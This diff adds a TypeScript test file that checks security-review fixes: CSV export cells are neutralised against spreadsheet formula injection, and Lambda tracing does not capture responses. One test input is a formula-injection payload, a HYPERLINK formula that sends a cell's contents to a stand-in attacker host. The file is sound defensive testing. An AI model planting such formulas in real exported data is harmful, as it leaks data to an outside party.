@@ -1,0 +1,51 @@
+/** Findings of the security review that unit tests can pin down: spreadsheet-safe CSV, traces without responses. */
+import fc from 'fast-check';
+import { describe, expect, it, vi } from 'vitest';
+
+const captured: unknown[] = [];
+vi.mock('@aws-lambda-powertools/tracer/middleware', async (original) => {
+  const real = await original<typeof import('@aws-lambda-powertools/tracer/middleware')>();
+  return {
+    ...real,
+    captureLambdaHandler: (tracer: unknown, options?: unknown) => {
+      captured.push(options);
+      return real.captureLambdaHandler(tracer as never, options as never);
+    },
+  };
+});
+
+const { csvCell } = await import('../../functions/settlement/views.js');
+
+describe('settlement CSV cells are never formulas', () => {
+  it('text starting with = + - @, tab, CR or their full-width forms is prefixed with an apostrophe and quoted', () => {
+    expect(csvCell('=HYPERLINK("http://evil.example/?x="&A2,"查看")')).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A2,""查看"")"`);
+    for (const start of ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']) expect(csvCell(`${start}1+1`)).toBe(`"'${start}1+1"`);
+    expect(csvCell('城步合作社')).toBe('城步合作社');
+    expect(csvCell('a, "b"')).toBe('"a, ""b"""');
+    expect(csvCell(-1234)).toBe('-1234'); // numbers are numbers
+  });
+
+  it('for any text: the cell read back by a CSV reader is the text, and never starts a formula', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: 'grapheme' }), (text) => {
+        const cell = csvCell(text);
+        const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
+        expect(/^[=+\-@\t\r＝＋－＠]/.test(unquoted)).toBe(false);
+        expect(unquoted === text || unquoted === `'${text}`).toBe(true);
+      }),
+    );
+  });
+});
+
+describe('traces', () => {
+  it('no handler wrapper records responses in X-Ray (they carry stream keys, API keys, buyer references)', async () => {
+    vi.resetModules(); // the worker's setup already loaded the wrappers with the real middleware
+    captured.length = 0;
+    const { httpHandler } = await import('../../functions/shared/http.js');
+    const { powertoolsHandler } = await import('../../functions/shared/handler.js');
+    httpHandler(async () => ({ statusCode: 200, body: '' }));
+    powertoolsHandler(async () => ({}));
+    expect(captured).toHaveLength(2);
+    for (const options of captured) expect(options).toMatchObject({ captureResponse: false });
+  });
+});
